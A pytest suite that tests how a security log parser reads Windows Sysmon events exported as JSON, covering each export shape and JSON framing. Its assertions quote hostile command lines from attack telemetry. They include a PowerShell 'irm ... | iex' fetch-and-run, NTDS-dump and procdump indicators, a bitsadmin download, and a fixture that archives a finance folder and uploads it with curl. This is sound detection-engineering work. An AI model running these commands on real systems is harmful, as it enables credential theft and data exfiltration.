"""Golden tests for Windows events as JSON: the real exports in ../shared/corpus/realworld (read
without --format), a hand-written fixture per shape (tests/fixtures/windows_json, built from each
producer's documentation), and the framing every shape shares (objects back to back, arrays,
wrappers, damage)."""

from __future__ import annotations

import io
import json
from datetime import UTC, datetime
from pathlib import Path

import msgspec
import pytest

from tests.helpers import FALCO, OCSF, TETRAGON, ZEEK, read
from tidewaiter.events import Activity, Endpoint, Event, File, Kind, Process, RawRef
from tidewaiter.sources import get, sniff
from tidewaiter.sources.json_stream import Framer, documents

REAL = "realworld"
SEVENZ = "C:\\Program Files\\7-Zip\\7z.exe"
ARCHIVE = "C:\\Users\\Public\\secret.7z"
HOST = "WS-FIN-07.corp.example"
PS_SCRIPT = "Compress-Archive -Path C:\\Finance -DestinationPath C:\\Users\\Public\\fin.zip"
SHAPES = ("evtx_dump.json", "xml_to_json.jsonl", "winlogbeat.ndjson", "nxlog_mordor.json")


def _utc(text: str) -> float:
    return datetime.fromisoformat(text).replace(tzinfo=UTC).timestamp()


def _bare(events: list[Event]) -> list[Event]:
    """Events without where they were read from, to compare shapes with one another."""
    return [msgspec.structs.replace(e, raw=RawRef("-", "-")) for e in events]


# --- real exports ------------------------------------------------------------------------------


def test_evtx_dump_objects_back_to_back(corpus: Path) -> None:
    path = (
        corpus
        / REAL
        / "sysmon_evtxrs_json"
        / "proc_creation_win_mal_shai_hulud_malicious_node_bun_execution.json"
    )
    events, report = read(path)
    assert report.files == {str(path): "windows-json"}
    assert (report.records, report.events, report.ignored, report.skipped_total) == (6, 6, 0, 0)
    assert [e.raw.line for e in events] == [1, 67, 133, 199, 265, 331]  # each object's first line
    assert {(e.kind, e.activity, e.host) for e in events} == {
        (Kind.PROCESS, Activity.LAUNCH, "swachchhanda")
    }
    first, *_, bun = events
    assert first.raw == RawRef("windows-json", str(path), line=1, record_id="2455038")
    assert first.time == _utc("2025-11-28 07:59:01.337")  # UtcTime
    assert first.process is not None
    assert first.process.parent is not None
    assert (first.process.pid, first.process.path, first.process.cmd_line) == (
        8752,
        "C:\\Windows\\System32\\cmd.exe",
        "C:\\WINDOWS\\system32\\cmd.exe /d /s /c node setup_bun.js",
    )
    assert first.process.uid == "0197231e-5645-6929-c410-000000000d00"  # braces off, lower
    assert first.process.user == "swachchhanda\\xodih"
    assert (first.process.parent.pid, first.process.parent.path) == (
        8056,
        "C:\\Program Files\\nodejs\\node.exe",
    )
    assert "npm-cli.js" in (first.process.parent.cmd_line or "")
    commands = [e.process.cmd_line for e in events if e.process]
    assert (
        'C:\\WINDOWS\\system32\\cmd.exe /d /s /c "powershell -c "irm bun.sh/install.ps1|iex""'
        in (commands)
    )
    assert bun.process is not None
    assert bun.process.parent is not None
    assert (bun.process.pid, bun.process.path) == (15292, "C:\\Users\\xodih\\.bun\\bin\\bun.exe")
    assert "bun_environment.js" in (bun.process.cmd_line or "")
    assert bun.process.parent.cmd_line == "node  setup_bun.js"


def test_evtx_dump_file_creations(corpus: Path) -> None:
    path = corpus / REAL / "sysmon_evtxrs_json" / "file_event_win_hktl_netexec_file_indicators.json"
    events, report = read(path)
    assert (report.records, report.events, report.skipped_total) == (7, 7, 0)
    assert {(e.kind, e.activity) for e in events} == {(Kind.FILE, Activity.CREATE)}
    nxc = "C:\\Users\\xodih\\Downloads\\nxc-windows-latest\\nxc.exe"
    assert {(e.process.pid, e.process.path) for e in events if e.process} == {(12184, nxc)}
    temp = "C:\\Users\\xodih\\AppData\\Local\\Temp\\_MEI121842\\nxc\\data\\"
    assert [e.file for e in events][2:4] == [
        File(path=temp + "ntds-dump-raw\\ntds-dump-raw.ps1"),
        File(path=temp + "procdump\\procdump.exe"),
    ]
    assert events[0].time == _utc("2026-04-08 10:58:04.846")


@pytest.mark.parametrize(
    ("name", "host", "pid", "cmd_line"),
    [
        (
            "sysmon_evtxrs_json/proc_creation_win_browsers_inline_file_download.json",
            "ar-win-dc.attackrange.local",
            4584,
            '"C:\\Program Files (x86)\\Microsoft\\Edge\\Application\\msedge.exe"  '
            '"http://10.0.1.14/malware.zip"',
        ),
    ],
)
def test_evtx_dump_single_object(
    corpus: Path, name: str, host: str, pid: int, cmd_line: str
) -> None:
    [event], report = read(corpus / REAL / name)
    assert report.skipped_total == 0
    assert (event.kind, event.activity, event.host) == (Kind.PROCESS, Activity.LAUNCH, host)
    assert event.process is not None
    assert event.process.parent is not None
    assert (event.process.pid, event.process.cmd_line) == (pid, cmd_line)
    assert event.process.parent.path == "C:\\Windows\\System32\\cmd.exe"


def test_sigma_regression_json(corpus: Path) -> None:
    path = corpus / "sigma" / "certutil_encode_e62a9f0c-ca1e-46b2-85d5-a6da77f86d1a.json"
    [event], report = read(path)
    assert report.files == {str(path): "windows-json"}
    assert event.process is not None
    assert "certutil" in (event.process.cmd_line or "").lower()
    assert "-encode" in (event.process.cmd_line or "")


def test_winlogbeat_ecs_after_the_sysmon_pipeline(corpus: Path) -> None:
    path = (
        corpus / REAL / "sysmon_winlogbeat_ecs" / "beats_sysmon-12-processcreate.evtx.golden.json"
    )
    [event], report = read(path)
    assert report.files == {str(path): "windows-json"}
    assert event.raw == RawRef("windows-json", str(path), line=2, record_id="20")
    assert (event.kind, event.activity, event.host) == (Kind.PROCESS, Activity.LAUNCH, "vagrant")
    assert event.time == _utc("2020-10-27 20:00:14.320")  # @timestamp, where UtcTime was moved
    assert event.process == Process(
        pid=3616,
        uid="9f32b55f-7c4e-5f98-5803-000000000500",
        path="C:\\Windows\\System32\\notepad.exe",
        cmd_line='"C:\\Windows\\system32\\notepad.exe" ',
        cwd="C:\\Users\\vagrant\\",
        user="VAGRANT\\vagrant",
        session="0x2c9e7",
        parent=Process(
            pid=4212,
            uid="9f32b55f-6fdf-5f98-7000-000000000500",
            path="C:\\Windows\\explorer.exe",
            cmd_line="C:\\Windows\\Explorer.EXE",
        ),
    )


def test_elastic_agent_document_with_event_original_in_a_wrapper(corpus: Path) -> None:
    path = (
        corpus
        / REAL
        / "sysmon_winlogbeat_ecs"
        / "integrations_sysmon_test-image-loaded-failed-signature.json"
    )
    events, report = read(path)
    # {"events": [...]} opened; its one record is an image load (EID 7): read, nothing to use.
    assert report.files == {str(path): "windows-json"}
    assert (report.records, report.events, report.ignored, report.skipped_total) == (1, 0, 1, 0)
    assert events == []


def test_nxlog_mordor_sysmon_and_security_mixed(corpus: Path) -> None:
    path = (
        corpus
        / REAL
        / "sysmon_nxlog_mordor"
        / "cmd_bitsadmin_download_psh_script_2020-10-2302365189.json"
    )
    events, report = read(path)
    assert report.files == {str(path): "windows-json"}
    # 336 Sysmon and 88 Security/Eventlog/SCM records: the Security ones are not problems.
    assert (report.records, report.events, report.ignored, report.skipped_total) == (
        424,
        20,
        404,
        0,
    )
    assert {e.host for e in events} == {"WORKSTATION5"}
    [bits] = [e for e in events if e.activity == Activity.LAUNCH and "bitsadmin" in str(e.process)]
    assert bits.raw.line == 118
    assert bits.time == _utc("2020-10-23 06:36:43.542")  # UtcTime, not NXLog's local TimeCreated
    assert bits.process is not None
    assert bits.process.parent is not None
    assert bits.process.pid == 9260
    assert (bits.process.cmd_line or "").startswith(
        "bitsadmin.exe  /transfer /Download /priority Foreground https://raw.githubusercontent.com/"
    )
    assert (bits.process.parent.pid, bits.process.parent.path) == (
        10044,
        "C:\\Windows\\System32\\cmd.exe",
    )
    tmp = "C:\\Users\\wardog\\AppData\\Local\\Temp\\BIT9584.tmp"
    assert [(e.activity, e.process.pid) for e in events if e.file and e.file.path == tmp] == [
        (Activity.CREATE, 4696),
        (Activity.DELETE, 4696),
        (Activity.CREATE, 4696),
        (Activity.DELETE, 4696),
        (Activity.CREATE, 4696),
    ]
    [outside] = [e for e in events if e.dst_endpoint and e.dst_endpoint.ip == "151.101.208.133"]
    assert (outside.activity, outside.dst_endpoint, outside.process.pid) == (  # type: ignore[union-attr]
        Activity.CONNECT,
        Endpoint(ip="151.101.208.133", port=443),
        4696,
    )


def test_sentinel_export_array_with_eventdata_xml(corpus: Path) -> None:
    path = (
        corpus
        / REAL
        / "sysmon_sentinel_export"
        / "WORKSTATION6_Windows_MicrosoftWindowsSysmonOperational_2022-09-21T21562955.json"
    )
    events, report = read(path)
    assert report.files == {str(path): "windows-json"}
    assert (report.records, report.events, report.ignored, report.skipped_total) == (56, 7, 49, 0)
    assert {e.host for e in events} == {"WORKSTATION6.mssentinel.local"}
    net, _dns, net1, *_ = events
    assert net.raw == RawRef("windows-json", str(path), line=1, record_id="2668852")
    assert net.time == _utc("2022-09-22 01:56:20.222")  # not the export's shifted TimeCreated
    assert net.process is not None
    assert net1.process is not None
    assert (net.process.pid, net.process.path, net.process.cmd_line) == (
        3896,
        "C:\\Windows\\System32\\net.exe",
        "net  localgroup Administrators",
    )
    assert net.process.uid == "03bfca49-c0c4-632b-0902-000000000b00"
    assert net1.process.cmd_line == "C:\\Windows\\system32\\net1  localgroup Administrators"
    assert net1.process.parent is not None
    assert net1.process.parent.pid == 3896


def test_sysmon_for_linux_syslog_with_crlf(corpus: Path) -> None:
    path = corpus / REAL / "sysmon_linux_syslog" / "integrations_sysmon_linux_sample_sysmon.log"
    events, report = read(path)
    assert report.files == {str(path): "sysmon-xml"}
    # 14 start-up text lines and EIDs 16/4 carry nothing; the other 22 events are read.
    assert (report.records, report.events, report.ignored, report.skipped_total) == (38, 22, 16, 0)
    assert {e.host for e in events} == {"james-ubuntu-demo"}
    first = events[0]
    assert (first.kind, first.activity, first.file) == (
        Kind.FILE,
        Activity.DELETE,
        File(path="/dev/shm/sem.sysmon-startup"),
    )
    outside = [e.dst_endpoint for e in events if e.kind == Kind.NETWORK]
    assert outside == [
        Endpoint(ip="169.254.169.254", port=80),
        Endpoint(ip="169.254.169.254", port=80),
        Endpoint(ip="34.120.127.130", port=443),
    ]
    agent = events[-1]
    assert agent.process is not None
    assert agent.process.path == "/opt/Elastic/Agent/data/elastic-agent-5ae799/elastic-agent"
    assert agent.time == _utc("2021-10-24 17:06:13.926")
    assert not any("\r" in (e.process.path or "") for e in events if e.process)


# --- one fixture per shape: the same chain, the same events --------------------------------


def test_every_shape_gives_the_same_events(fixtures: Path) -> None:
    """The evtx_dump, xmltodict, Winlogbeat and NXLog renderings of one 7z-then-curl chain and a
    PowerShell 4104 give identical events: one mapping, whatever the shape."""
    folder = fixtures / "windows_json"
    reference, report = read(folder / SHAPES[0])
    assert report.files == {str(folder / SHAPES[0]): "windows-json"}
    assert (report.records, report.events, report.skipped_total) == (5, 5, 0)
    launch, create, upload, connect, script = reference
    assert (launch.kind, launch.activity, launch.host) == (Kind.PROCESS, Activity.LAUNCH, HOST)
    assert launch.time == _utc("2024-05-02 10:00:00.100")
    assert launch.process == Process(
        pid=5120,
        uid="4f1c2a9e-1000-6633-5401-000000000f00",
        path=SEVENZ,
        cmd_line=f'"{SEVENZ}" a -pS3cr3t! {ARCHIVE} C:\\Finance\\*',
        cwd="C:\\Users\\jdoe\\",
        user="CORP\\jdoe",
        parent=Process(
            pid=4410,
            uid="4f1c2a9e-0ff0-6633-4c01-000000000f00",
            path="C:\\Windows\\System32\\cmd.exe",
            cmd_line='"C:\\Windows\\system32\\cmd.exe" ',
            user="CORP\\jdoe",
        ),
    )
    assert (create.kind, create.file) == (Kind.FILE, File(path=ARCHIVE))
    assert upload.process is not None
    assert upload.process.cmd_line == f"curl.exe -T {ARCHIVE} https://files.example.net/upload"
    assert (connect.activity, connect.src_endpoint, connect.dst_endpoint) == (
        Activity.CONNECT,
        Endpoint(ip="10.0.0.15", port=50123, hostname=HOST),
        Endpoint(ip="203.0.113.50", port=443, hostname="files.example.net"),
    )
    assert (script.activity, script.time) == (Activity.SCRIPT, _utc("2024-05-02 10:02:00"))
    assert script.process == Process(
        pid=6512,
        path="powershell.exe",
        cmd_line=PS_SCRIPT,
        user="S-1-5-21-1004336348-1177238915-682003330-1104",
    )
    for shape in SHAPES[1:]:
        events, report = read(folder / shape)
        assert report.files == {str(folder / shape): "windows-json"}, shape
        assert report.skipped_total == 0, shape
        assert _bare(events) == _bare(reference), shape


def test_evtx_dump_record_headers_are_framing(fixtures: Path) -> None:
    path = fixtures / "windows_json" / "evtx_dump.json"
    events, _ = read(path)
    lines = path.read_text().splitlines()
    assert [lines[e.raw.line - 2] for e in events] == [  # the header just above each object
        "Record 20101",
        "Record 20102",
        "Record 20103",
        "Record 20104",
        "Record 7001",
    ]
    assert [e.raw.record_id for e in events] == ["20101", "20102", "20103", "20104", "7001"]


def test_winlogbeat_shapes_elasticsearch_hit_and_powershell_module(fixtures: Path) -> None:
    path = fixtures / "windows_json" / "winlogbeat.ndjson"
    events, _ = read(path)
    connect = events[3]  # written as an Elasticsearch hit: {"_index", "_id", "_source": {...}}
    assert connect.raw == RawRef("windows-json", str(path), line=4, record_id="20104")
    assert connect.dst_endpoint == Endpoint(
        ip="203.0.113.50", port=443, hostname="files.example.net"
    )
    assert connect.activity == Activity.CONNECT  # network.direction egress is Initiated=true


def test_nxlog_security_event_is_read_and_not_used(fixtures: Path) -> None:
    events, report = read(fixtures / "windows_json" / "nxlog_mordor.json")
    assert (report.records, report.events, report.ignored, report.skipped_total) == (6, 5, 1, 0)
    assert 5 not in [e.raw.line for e in events]  # the Security 4688 on line 5


def test_log_analytics_event_table_with_dataitem_xml(fixtures: Path) -> None:
    path = fixtures / "windows_json" / "sentinel_event_table.json"
    events, report = read(path)
    assert report.files == {str(path): "windows-json"}
    assert (report.records, report.events, report.skipped_total) == (4, 4, 0)
    assert [e.raw.line for e in events] == [2, 25, 48, 71]  # a pretty-printed array
    reference, _ = read(fixtures / "windows_json" / SHAPES[0])
    assert _bare(events) == _bare(reference[:4])  # TimeGenerated ignored: UtcTime is the time


def test_splunk_xml_per_event_log(fixtures: Path) -> None:
    """Splunk's XmlWinEventLog (renderXml = true) .log: one <Event> a line, single-quoted
    attributes, RenderingInfo; a script block with a line break spreads its event."""
    path = fixtures / "sysmon" / "splunk_xmlwineventlog.log"
    events, report = read(path)
    assert report.files == {str(path): "sysmon-xml"}
    assert (report.records, report.events, report.ignored, report.skipped_total) == (5, 5, 0, 0)
    reference, _ = read(fixtures / "windows_json" / SHAPES[0])
    script = events[-1]
    assert script.process is not None
    assert script.process.cmd_line == "# stage the finance share\n" + PS_SCRIPT
    assert _bare(events[:4]) == _bare(reference[:4])


# --- framing ---------------------------------------------------------------------------------


def _framed(data: bytes, chunk: int, limit: int = 1 << 20) -> list[tuple[int, bytes, str | None]]:
    framer = Framer(limit)
    found = []
    for at in range(0, len(data), chunk):
        found += framer.feed(data[at : at + chunk])
    found += framer.finish()
    return [(d.line, d.data, d.problem) for d in found]


@pytest.mark.parametrize("chunk", [1, 2, 3, 7, 64, 1 << 16])
def test_framing_does_not_depend_on_where_chunks_break(chunk: int) -> None:
    data = (
        b'\xef\xbb\xbfRecord 1\n{\n  "a": "}{][\\"",\n  "b": [1, {"c": "\\\\"}]\n}\n'
        b'[{"d": 1}, {"e": "x]"},\n {"f": 2}]\n'
        b'{"g": 3}{"h": 4}\n'
    )
    assert _framed(data, chunk) == [
        (2, b'{\n  "a": "}{][\\"",\n  "b": [1, {"c": "\\\\"}]\n}', None),
        (6, b'{"d": 1}', None),
        (6, b'{"e": "x]"}', None),
        (7, b'{"f": 2}', None),
        (8, b'{"g": 3}', None),
        (8, b'{"h": 4}', None),
    ]


def test_framing_recovers_from_damage_and_locates_it() -> None:
    data = (
        b'{"a": "cut\n'  # a line break inside a string: the object is broken here
        b'{"b": 1}\n'
        b"garbage\n"
        b'{"c": 1,\n'  # an object left open when a new one starts at column 0
        b'{"d": 1}\n'
        b"]\n"
        b'{"e": 1'
    )
    assert _framed(data, 5) == [
        (1, b"", "malformed JSON (line break inside a string)"),
        (2, b'{"b": 1}', None),
        (3, b"", "text outside any JSON object"),
        (4, b"", "malformed JSON (object not closed before the next line)"),
        (5, b'{"d": 1}', None),
        (6, b"", "unbalanced bracket outside any JSON object"),
        (7, b"", "JSON cut short at end of input"),
    ]


def test_a_record_over_the_limit_is_refused_and_the_next_read() -> None:
    data = b'{"big": "' + b"x" * 5000 + b'"}\n{"small": 1}\n'
    assert _framed(data, 100, limit=1000) == [
        (1, b"", "JSON record larger than 0 MiB"),
        (2, b'{"small": 1}', None),
    ]


def test_a_large_array_is_framed_without_holding_it() -> None:
    """A one-line array of 20,000 rows (about 10 MB): the framer's buffer stays within one
    record and one chunk, whatever the array's size."""
    row = b'{"EventID": 1, "Provider": "Microsoft-Windows-Sysmon", "pad": "' + b"y" * 400 + b'"}'
    data = b"[" + b",".join([row] * 20_000) + b"]"
    framer = Framer()
    largest = count = 0
    stream = io.BytesIO(data)
    while chunk := stream.read(1 << 16):
        count += len(framer.feed(chunk))
        largest = max(largest, len(framer._buf))
    assert count == 20_000
    assert largest <= (1 << 16) + len(row)
    assert sum(1 for _ in documents(io.BytesIO(data))) == 20_000


def test_problems_are_counted_with_file_and_line(tmp_path: Path) -> None:
    path = tmp_path / "damaged.json"
    path.write_bytes(
        b'{"Event": {"System": {"Provider": {"#attributes": {"Name": "Microsoft-Windows-Sysmon"}},'
        b' "EventID": 1, "TimeCreated": {"#attributes": {"SystemTime": "2024-05-02T10:00:00Z"}}},'
        b' "EventData": {"Image": "C:\\\\x.exe", "ProcessId": 7}}}\n'
        b'{"Event": {"System": "x"}}\n'
        b'{"Event": {"System": {"EventID": 1}\n'
        b'{"EventID": 1, "Provider": "Microsoft-Windows-Sysmon", "EventData": "<EventData><Data"}\n'
        b'{"EventID": 1, "SourceName": "Microsoft-Windows-Sysmon", "UtcTime": "yesterday"}\n'
        b"[1]\n"
        b'{"unrelated": true}\n'
    )
    events, report = read(path, fmt="windows-json")
    assert len(events) == 1
    assert report.records == report.events + report.ignored + report.skipped_total
    assert [(p.where, p.reason) for p in report.examples] == [
        ("line 2", "record has no Event/System element"),
        ("line 3", "malformed JSON (object not closed before the next line)"),
        ("line 4", "malformed EventData XML (unclosed token)"),
        ("line 5", "record has no time"),
        ("line 6", "text outside any JSON object"),
        ("line 7", "not a Windows event (no Event, winlog or EventID field)"),
    ]


def test_stream_decoder_reads_json_lines_as_read_file_does(fixtures: Path) -> None:
    """watch follows NXLog's and Winlogbeat's JSON lines output through the line decoder."""
    source = get("windows-json")
    for shape in ("winlogbeat.ndjson", "nxlog_mordor.json", "evtx_dump.json"):
        path = fixtures / "windows_json" / shape
        decoder = source.decoder(str(path))
        streamed: list[Event] = []
        for number, line in enumerate(path.read_bytes().splitlines(keepends=True), start=1):
            streamed += decoder.feed(line, RawRef("windows-json", str(path), line=number))
        streamed += decoder.flush()
        whole, _ = read(path)
        assert streamed == whole, shape


def test_sniff_claims_its_shapes_and_nothing_else(fixtures: Path) -> None:
    source = get("windows-json")
    for other in (TETRAGON, FALCO, ZEEK, OCSF):
        assert not source.sniff(other)
        assert not get("azure-syslog").sniff(other)
    for shape in (*SHAPES, "sentinel_event_table.json"):
        path = fixtures / "windows_json" / shape
        assert sniff(path.read_bytes()[:65536], str(path)) is source
    # A Kubernetes audit event names "Event" as a value, not as a key.
    assert not source.sniff(b'{"kind":"Event","apiVersion":"audit.k8s.io/v1","System":1}\n')


def test_invalid_utf8_in_a_command_line_keeps_the_event(fixtures: Path, tmp_path: Path) -> None:
    path = tmp_path / "nxlog.json"
    data = (fixtures / "windows_json" / "nxlog_mordor.json").read_bytes()
    path.write_bytes(data.replace(b"S3cr3t!", b"S3cr3t\xff", 1))
    events, report = read(path)
    assert report.skipped_total == 0
    assert events[0].process is not None
    assert " a -pS3cr3t\ufffd C:\\Users\\Public\\secret.7z" in (events[0].process.cmd_line or "")


def test_evtx_dump_separate_json_attributes(tmp_path: Path) -> None:
    """`evtx_dump --separate-json-attributes` puts an element's attributes beside it."""
    path = tmp_path / "separate.jsonl"
    system = {
        "Provider": "",
        "Provider_attributes": {"Name": "Microsoft-Windows-Sysmon"},
        "EventID": 11,
        "TimeCreated": "",
        "TimeCreated_attributes": {"SystemTime": "2024-05-02T10:00:03Z"},
        "EventRecordID": 9,
        "Computer": "ws1",
    }
    data = {"ProcessId": 5120, "Image": "C:\\7z.exe", "TargetFilename": "C:\\s.7z"}
    path.write_text(json.dumps({"Event": {"System": system, "EventData": data}}) + "\n")
    [event], report = read(path)
    assert report.files == {str(path): "windows-json"}
    assert (event.kind, event.host, event.file) == (Kind.FILE, "ws1", File(path="C:\\s.7z"))
    assert event.time == _utc("2024-05-02 10:00:03")
